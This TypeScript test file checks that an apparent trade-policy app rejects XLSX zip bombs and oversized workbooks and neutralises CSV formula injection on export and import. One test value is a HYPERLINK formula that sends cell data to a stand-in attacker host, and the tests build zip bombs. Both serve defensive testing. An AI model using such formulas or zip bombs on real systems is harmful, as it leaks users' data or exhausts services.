import { startTestStack, type TestStack } from '@tradepilot/test-stack';
import ExcelJS from 'exceljs';
import { readFileSync } from 'node:fs';
import { craftZip } from './test/crafted-zip';
import { devLogin, expectBilingualError, trpcCall, trpcData, trpcError } from './test/gateway-http';

/** The highest resident memory the process has had so far (Linux), in MiB. */
const peakMemoryMiB = (pid: number) => {
  const peak = /VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1];
  return Number(peak) / 1024;
};

const mib = 1024 * 1024;

describe('catalog files: XLSX import limits (zip bombs) and CSV formula injection', () => {
  let stack: TestStack;
  let ministry: string;

  beforeAll(async () => {
    stack = await startTestStack({ apps: ['plans', 'gateway'] });
    ministry = (await devLogin(stack, 'mofcom-officer')).accessToken;
  });
  afterAll(() => stack?.close());

  const importFile = (format: 'csv' | 'xlsx', content: string) =>
    trpcCall(stack, ministry, 'measure.import', 'mutation', { format, content });

  it('refuses a zip bomb before parsing it, whether its headers tell the truth or lie, and memory stays bounded', async () => {
    const plansPid = stack.app('plans').pid as number;
    const before = peakMemoryMiB(plansPid);
    const zeros = Buffer.alloc(mib);
    const honest = await craftZip([{ name: 'xl/worksheets/sheet1.xml', chunk: zeros, times: 300 }]);
    const lying = await craftZip([
      { name: '[Content_Types].xml', chunk: Buffer.from('<Types/>'), times: 1 },
      { name: 'xl/worksheets/sheet1.xml', chunk: zeros, times: 300, declaredSize: 2048 },
    ]);
    expect(honest.length).toBeLessThan(mib);
    for (const bomb of [honest, lying]) {
      const answer = await importFile('xlsx', bomb.toString('base64'));
      expect(answer.status).toBe(413);
      expect(trpcError(answer)?.data).toMatchObject({
        appCode: 'IMPORT_FILE_TOO_LARGE',
        details: { field: 'content', unit: 'bytes' },
      });
      expectBilingualError(trpcError(answer)?.data);
    }
    // 300 MiB inflated would show; the limits hold the process to a few MiB more than before
    expect(peakMemoryMiB(plansPid) - before).toBeLessThan(64);
    expect((await trpcCall(stack, ministry, 'measure.list', 'query', {})).status).toBe(200);
  });

  it('refuses a workbook with more rows than the limit before parsing it', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('measures');
    for (let i = 0; i < 5200; i += 1) sheet.addRow([`R-${i}`]);
    const file = Buffer.from(await workbook.xlsx.writeBuffer());
    const answer = await importFile('xlsx', file.toString('base64'));
    expect(answer.status).toBe(413);
    expect(trpcError(answer)?.data).toMatchObject({
      appCode: 'IMPORT_FILE_TOO_LARGE',
      details: { unit: 'rows' },
    });
  });

  it('CSV export guards cells a spreadsheet would run as formulas, and import strips the guard (round trip)', async () => {
    const texts = {
      'F-1': '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")',
      'F-2': '+86 热线',
      'F-3': "'=already quoted",
      'F-4': '-',
    };
    for (const [id, zh] of Object.entries(texts)) {
      const created = await trpcCall(stack, ministry, 'measure.create', 'mutation', {
        id,
        taskGroupId: 'policy',
        text: { 'zh-CN': zh, en: `@SUM(1+1) ${id}` },
        pilotAreas: ['guangzhou'],
      });
      expect(created.status).toBe(200);
    }
    const exported = trpcData<{ content: string }>(
      await trpcCall(stack, ministry, 'measure.export', 'query', { format: 'csv', taskGroupId: 'policy' }),
    )?.content as string;
    const cells = exported
      .replace(/^\uFEFF/, '')
      .split(/\r\n/)
      .flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
      .map((cell) => cell.replace(/^"|"$/g, '').replace(/""/g, '"'));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain(`'${texts['F-1']}`);
    expect(cells).toContain("''=already quoted");

    const report = trpcData<{ created: string[]; updated: string[]; unchanged: number }>(
      await importFile('csv', exported),
    );
    expect(report).toMatchObject({ created: [], updated: [] });
    for (const [id, zh] of Object.entries(texts)) {
      const measure = trpcData<{ text: Record<string, string>; version: number }>(
        await trpcCall(stack, ministry, 'measure.get', 'query', { measureId: id }),
      );
      expect(measure).toMatchObject({ text: { 'zh-CN': zh, en: `@SUM(1+1) ${id}` }, version: 1 });
    }
  });
});
